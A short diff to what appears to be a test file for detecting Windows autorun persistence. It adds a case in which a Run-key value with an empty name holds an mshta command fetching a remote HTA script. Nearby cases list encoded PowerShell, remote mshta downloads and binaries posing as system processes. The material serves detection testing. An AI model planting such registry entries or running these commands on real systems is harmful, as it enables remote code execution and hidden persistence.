@@ -27,6 +27,7 @@ ENCODED = "powershell.exe -nop -enc " + "QQBB" * 20
         (RUN, {"x": ENCODED}, "windows-encoded-powershell"),
         (RUN, {"x": "mshta http://192.0.2.1/x.hta"}, "windows-mshta-script"),
         (RUN, {"x": "C:\\svchost.exe"}, "windows-imitates"),
+        (RUN, {"": "mshta http://192.0.2.1/x.hta"}, "windows-mshta-script"),
         (f"Wow6432Node\\{RUN}", {"x": "C:\\Users\\Public\\csrss.exe"}, "windows-imitates"),
         ("Microsoft\\Windows\\CurrentVersion\\RunOnceEx\\001", {"1": "C:\\lsass.exe"}, "windows-imitates"),
         (f"{NT}\\Winlogon", {"Shell": "explorer.exe,C:\\Users\\Public\\x.exe"}, "windows-shell-foreign"),
